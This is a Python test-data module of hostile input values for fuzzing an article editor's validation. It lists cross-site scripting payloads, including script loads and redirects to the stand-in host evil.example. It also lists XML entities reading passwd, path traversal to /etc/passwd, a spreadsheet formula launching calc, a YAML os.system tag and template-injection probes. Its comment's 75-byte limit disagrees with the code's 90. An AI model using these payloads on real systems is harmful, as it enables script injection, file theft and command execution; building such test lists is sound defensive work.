"""Hostile values: every printable byte of ASCII in five disguises, and the classics of cross-site scripting."""

# What clings to the character before it, so that a comparison of whole characters misses that one.
COMBINING = ["\u0301", "\u200d", "\ufe0f", "\u20e3"]

# Control characters that no text may hold; tab, LF and CR are white space.
CONTROL = [byte for byte in [*range(0x20), 0x7F] if chr(byte) not in "\t\n\r"]

_BYTES = [chr(byte) + mark for byte in range(0x20, 0x7F) for mark in ["", *COMBINING]]

# In the text of an article each of these is refused: it holds raw HTML, or leads where no link may.
MARKUP = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script >alert(1)</script >
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<IMG SRC=`javascript:alert(1)`>
<img src=x:alert(1) onerror=eval(src)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext></mtext></math>
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example/>
<form action=//evil.example><input type=submit></form>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<video><source onerror=alert(1)></video>
<audio src onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<style>@import '//evil.example';</style>
<style>*{background:url(javascript:alert(1))}</style>
<div style="width:expression(alert(1))">x</div>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<b onmouseover=alert(1)>x</b>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext>
<title><img src=x onerror=alert(1)></title>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</p><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "y">]>
<!ENTITY x SYSTEM "file:passwd">
""".splitlines()

_TEXTS = """\
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"/><svg onload=alert(1)>
x" y='z' onclick=alert(1)//
`onmouseover=alert(1)`
--><script>alert(1)</script>
--!><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;script&#x3E;alert(1)
&quot; onmouseover=&quot;alert(1)
&amp;lt;script&amp;gt;
&amp &copy &nbsp; &#0; &#x80; &#xD800;
&NotEqualTilde; &apos; &bogus;
javascript:alert(1)
JaVaScRiPt:alert(1)
java&#9;script:alert(1)
vbscript:msgbox(1)
data:text/html;base64,PHNjcmlwdD4=
//evil.example/x
\\\\evil.example\\x
{{site.title}} {{{body}}} {{>partials/card}}
{{=<% %>=}} <%site.title%>
{% raw %} ${7*7} #{7*7} <%= 7*7 %>
%3Cscript%3Ealert(1)%3C/script%3E
%22%20onmouseover=%22alert(1)
\\u003cscript\\u003ealert(1)
\\x3cscript\\x3ealert(1)
'; alert(1); //
"; alert(1); //
\\"; alert(1); //
</script><!--<script>
<!--<script>
{"@context": "x"}, "y": "</script>"
+ADw-script+AD4-alert(1)
\u202e<script>alert(1)</script>
\ufeff<script>alert(1)</script>
\U0001f469\u200d\U0001f469"\u200d onload=x
ﬁ ｀＜script＞ ＂ ＇ ﹤ ‹ ʹ ʺ
\u212aelvin \u0130 \u0131 \u017f ß
Z\u0351\u036b\u0343a\u0329lgo "\u0300\u0301\u0302'\u0303
%s %n %d %p {0} {} %(x)s
../../../etc/passwd
a/../b/./c//d
- "quoted": 'yaml' # no comment
!!python/object:os.system &a *a
|- > ? [a, b] {c: d}
null ~ true no 1_000 0o17 1e3
=cmd|'/c calc'!A1
@import url(//evil.example)
\\ \\\\ \\\\\\ \\" \\' \\` \\<
""" + '"' * 60 + "\n" + "<" * 60 + "\n" + "&" * 60

_TEXT_LINES = [line.replace("\ufeff", "") for line in _TEXTS.splitlines()]

# Values for fields and for text: each one line of at most 75 bytes, so that labels can hold it.
VALUES = _BYTES + [line for line in [*MARKUP, *_TEXT_LINES] if len(line.encode()) <= 90]
